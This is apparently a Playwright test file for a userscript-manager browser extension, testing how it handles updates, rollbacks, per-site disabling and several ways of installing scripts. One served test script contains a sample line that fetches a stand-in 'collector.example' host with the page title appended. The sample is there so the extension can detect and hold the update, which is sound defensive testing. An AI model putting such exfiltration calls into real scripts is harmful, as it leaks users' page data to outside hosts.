import { expect, type Page } from "@playwright/test";
import type { ExtensionBrowser } from "../support/extension.ts";
import { type HubStandIn, page as htmlPage } from "../support/hub-stand-in.ts";
import { test, userscript } from "./extension-fixture.ts";

const JAVASCRIPT = "text/javascript; charset=utf-8";
const MARK = (mark: string): string => `document.documentElement.setAttribute('data-ran', '${mark}');`;

async function open({ context }: ExtensionBrowser, url: string): Promise<Page> {
	const page = await context.newPage();
	await page.goto(url);
	return page;
}

const ran = async (browser: ExtensionBrowser, url: string): Promise<string | null> => {
	const page = await open(browser, url);
	const mark = await page.evaluate(() => document.documentElement.getAttribute("data-ran"));
	await page.close();
	return mark;
};

/** Opens a userscript's address, as a link on any page does; the browser shows the confirmation page instead. */
async function openScript(browser: ExtensionBrowser, url: string): Promise<Page> {
	const page = await browser.context.newPage();
	await page.goto(url).catch(() => undefined); // the redirect to the extension ends this navigation
	await page.waitForURL(/confirm-install\.html/);
	return page;
}

async function install(browser: ExtensionBrowser, url: string, button = "Install"): Promise<void> {
	const page = await openScript(browser, url);
	await page.getByRole("button", { name: button, exact: true }).click();
	await expect(page.getByRole("heading", { level: 1 })).toContainText("is installed");
	await page.close();
}

function serve(hub: HubStandIn, version: string, body: string): void {
	const lines = [
		"name Forum tools",
		"namespace ann",
		`version ${version}`,
		"match *://*/target*",
		"run-at document-start",
	];
	hub.serve("/forum.user.js", userscript(lines, body), JAVASCRIPT);
}

test.describe("extension: updates", () => {
	test.beforeEach(async ({ fixture: { hub }, browserWithExtension: browser }) => {
		hub.serve("/target", htmlPage("Target", "<p>target</p>"));
		serve(hub, "1.0.0", MARK("one"));
		await browser.allowUserScripts();
	});

	test("an update that contacts a new host is held, accepted, rolled back; then the script is off for one site", async ({
		fixture: { hub },
		browserWithExtension: browser,
	}) => {
		test.setTimeout(180_000);
		const target = `${hub.origin}/target`;
		await install(browser, `${hub.origin}/forum.user.js`);
		await expect.poll(() => ran(browser, target)).toBe("one");

		// Nothing new: applied by itself.
		serve(hub, "1.1.0", MARK("one and a bit"));
		const options = await open(browser, browser.pageUrl("options.html"));
		const check = options.getByRole("button", { name: "Check for updates", exact: true });
		await check.click();
		await expect(options.getByText("Updated: 1.")).toBeVisible();
		await expect.poll(() => ran(browser, target)).toBe("one and a bit");

		// A new host: held. The installed version goes on, also after the worker was stopped.
		serve(hub, "2.0.0", `${MARK("two")} fetch('https://collector.example/' + document.title);`);
		await check.click();
		await expect(options.getByText("Version 2.0.0 is available")).toBeVisible();
		await browser.stopWorker();
		expect(await ran(browser, target)).toBe("one and a bit");
		await options.reload();
		await options.getByRole("link", { name: "See what changes" }).click();
		await expect(options.getByText("it can do what the installed version could not")).toBeVisible();
		await expect(options.getByRole("region", { name: "What it can do" })).toContainText(
			"Now contacts collector.example",
		);
		// Both answers of the rating changed, which the page says in words.
		const rating = options.getByRole("region", { name: "Rating" });
		await expect(rating).toContainText(
			/The verdict changed from ‘Nothing found’ to ‘(?:Worth a look|Looks like an attack)’/,
		);
		await expect(rating).toContainText("Access changed:");
		await expect(rating).toContainText("Now: Contacts collector.example.");
		await expect(options.getByRole("region", { name: "Changed lines" })).toContainText("collector.example");
		const consent = options.getByRole("checkbox");
		if (await consent.isVisible()) await consent.check();
		await options.getByRole("button", { name: "Update", exact: true }).click();
		await expect(options.getByText("The update was applied.")).toBeVisible();
		await expect.poll(() => ran(browser, target)).toBe("two");

		// Rolled back, and not offered again.
		await options.getByRole("link", { name: "All scripts" }).click();
		await options.getByRole("link", { name: "Forum tools", exact: true }).click();
		await options.getByRole("tab", { name: "Versions" }).click();
		await options.getByRole("button", { name: "Go back to version 1.1.0" }).click();
		await expect(options.getByText("The version that it replaced is kept")).toBeVisible();
		await expect.poll(() => ran(browser, target)).toBe("one and a bit");
		await options.getByRole("link", { name: "All scripts" }).click();
		await options.getByRole("button", { name: "Check for update: Forum tools" }).click();
		await expect(options.getByText("Version 2.0.0 is available, but you skipped it")).toBeVisible();

		// Off for one site; then all scripts off there.
		const site = await open(browser, target);
		const popup = await browser.context.newPage();
		await site.bringToFront();
		await popup.goto(browser.pageUrl("popup.html"));
		await popup.getByRole("button", { name: "More about Forum tools" }).click();
		await popup.getByRole("menuitem", { name: "Not on localhost" }).click();
		await expect(popup.getByText("Off on localhost")).toBeVisible();
		await expect.poll(() => ran(browser, target)).toBeNull();
		await popup.getByRole("button", { name: "More about Forum tools" }).click();
		await popup.getByRole("menuitem", { name: "Run on localhost again" }).click();
		await expect.poll(() => ran(browser, target)).toBe("one and a bit");
		await popup.getByRole("switch", { name: "Run scripts on localhost" }).click();
		await expect.poll(() => ran(browser, target)).toBeNull();
		await options.goto(`${browser.pageUrl("options.html")}#/settings`);
		await options.getByRole("button", { name: "Allow scripts on localhost again" }).click();
		await expect.poll(() => ran(browser, target)).toBe("one and a bit");
	});

	test("from any address, a file, pasted code and the editor; each is checked before it is stored", {
		tag: "@soak",
	}, async ({ fixture: { hub }, browserWithExtension: browser }) => {
		test.setTimeout(180_000);
		const target = `${hub.origin}/target`;
		// A page whose address only looks like a script's stays a page; plain text of another server is a script.
		hub.serve("/shown.user.js", htmlPage("File view", "<p>code</p>"));
		const shown = await open(browser, `${hub.strangerOrigin}/shown.user.js`);
		await expect(shown).toHaveTitle("File view");
		hub.serve("/web.user.js", userscript(["name Web", "version 1", "match *://*/target*"], MARK("web")), "text/plain");
		await install(browser, `${hub.strangerOrigin}/web.user.js?raw=1&x=2`);
		await expect.poll(() => ran(browser, target)).toBe("web");

		// A file with the same name and namespace replaces it, and says so.
		const options = await open(browser, browser.pageUrl("options.html"));
		const opened = browser.context.waitForEvent("page");
		const file = userscript(["name Web", "version 2", "match *://*/target*"], MARK("file"));
		const buffer = Buffer.from(file);
		await options
			.locator("input[type=file]")
			.setInputFiles({ name: "web.user.js", mimeType: "text/javascript", buffer });
		const confirmation = await opened;
		await expect(confirmation.getByText("The installed script with this name came from")).toBeVisible();
		await confirmation.getByRole("button", { name: "Update", exact: true }).click();
		await expect(confirmation.getByRole("heading", { level: 1 })).toContainText("is installed");
		await expect.poll(() => ran(browser, target)).toBe("file");

		// Edited here: Ctrl+S stores a new version with the checks of an install.
		await options.reload();
		await options.getByRole("link", { name: "Web", exact: true }).click();
		const editor = options.getByRole("textbox", { name: "Code of Web" });
		await editor.fill(MARK("none"));
		await editor.press("Control+s");
		await expect(options.getByText("It was not saved:")).toBeVisible();
		await editor.fill(userscript(["name Web", "version 3", "match *://*/target*"], MARK("edited")));
		await editor.press("Control+s");
		await expect(options.getByText("Saved. The version before is under Versions.")).toBeVisible();
		await expect.poll(() => ran(browser, target)).toBe("edited");

		// Written here.
		await options.goto(`${browser.pageUrl("options.html")}#/new`);
		const written = options.getByRole("textbox", { name: "Code of the new script" });
		await written.fill(userscript(["name Written", "version 1", "match *://*/target*"], "document.title = 'written';"));
		await options.getByRole("button", { name: "Continue" }).click();
		await options.getByRole("button", { name: "Install", exact: true }).click();
		await expect(options.getByRole("heading", { name: "Written is installed" })).toBeVisible();

		// Several at once: off, removed, restored from the trash.
		await options.goto(browser.pageUrl("options.html"));
		await options.getByRole("searchbox", { name: "Search scripts" }).fill("writ");
		await expect(options.getByText("1 of 2 scripts")).toBeVisible();
		await options.getByRole("searchbox", { name: "Search scripts" }).fill("");
		await options.getByRole("checkbox", { name: "Select all shown scripts" }).check();
		await options.getByRole("button", { name: "Switch off" }).click();
		await expect(options.getByRole("switch", { name: "Run Written" })).not.toBeChecked();
		await expect.poll(() => ran(browser, target)).toBeNull();
		await options.getByRole("button", { name: "Remove", exact: true }).click();
		await expect(options.getByText("Nothing installed yet")).toBeVisible();
		await options.getByRole("link", { name: "Trash" }).click();
		await options.getByRole("button", { name: "Restore Web" }).click();
		await expect(options.getByRole("button", { name: "Restore Web" })).toHaveCount(0);
		await options.getByRole("link", { name: "Scripts", exact: true }).click();
		await expect(options.getByRole("switch", { name: "Run Web" })).toBeVisible();
	});
});
